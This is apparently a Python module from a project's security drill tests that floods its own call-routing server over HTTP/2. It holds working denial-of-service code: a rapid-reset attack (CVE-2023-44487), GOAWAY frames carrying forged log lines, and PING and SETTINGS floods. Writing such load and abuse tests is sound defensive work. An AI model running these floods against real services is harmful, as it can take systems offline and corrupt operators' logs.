"""Floods of frames on one connection. Each function is an attack of a scene."""

import struct
import time
from collections.abc import Callable

from localdial.v1.call_routing_pb2 import ResolveOutboundCallerIdRequest
from tests.drills.attacks.scene import Report
from tests.drills.attacks.server import ATTACKER, CALLEE, USER
from tests.support import http2

_GROUP = 50


def rapid_reset(address: str, seconds: float, _number: int) -> Report:
    """Open streams and reset each at once (CVE-2023-44487)."""
    request = ResolveOutboundCallerIdRequest(organization_id=ATTACKER, user_id=USER, callee_number=CALLEE)
    body = request.SerializeToString()

    def reset(number: int) -> bytes:
        stream = 2 * number + 1
        return http2.call(stream, body) + http2.frame(http2.RST_STREAM, http2.CANCEL, stream=stream)

    return _flood(address, seconds, reset)


def goaway(address: str, seconds: float, _number: int) -> Report:
    """Send GOAWAY frames whose debug data forge log lines."""
    forged = b'\n{"event": "forged", "level": "info"}\n' * 400
    data = bytes(4) + struct.pack(">I", 1) + forged
    return _flood(address, seconds, lambda _: http2.frame(http2.GOAWAY, data))


def ping(address: str, seconds: float, _number: int) -> Report:
    """Send PING frames, which the server answers."""
    return _flood(address, seconds, lambda number: http2.frame(http2.PING, struct.pack(">Q", number)))


def settings(address: str, seconds: float, _number: int) -> Report:
    """Send SETTINGS frames, which the server acknowledges."""
    return _flood(address, seconds, lambda _: http2.frame(http2.SETTINGS, struct.pack(">HI", 4, 65_535)))


def _flood(address: str, seconds: float, frames: Callable[[int], bytes]) -> Report:
    """Send what `frames` returns for 0, 1 and so on, and connect again when the server closes."""
    report = Report()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with http2.Connection(address) as connection:
            report.statuses["connections"] += 1
            connection.greet()
            number = 0
            while connection.is_open and time.monotonic() < until and number < 1 << 29:
                connection.send(b"".join(map(frames, range(number, number + _GROUP))))
                number += _GROUP
            report.sent += number
    return report
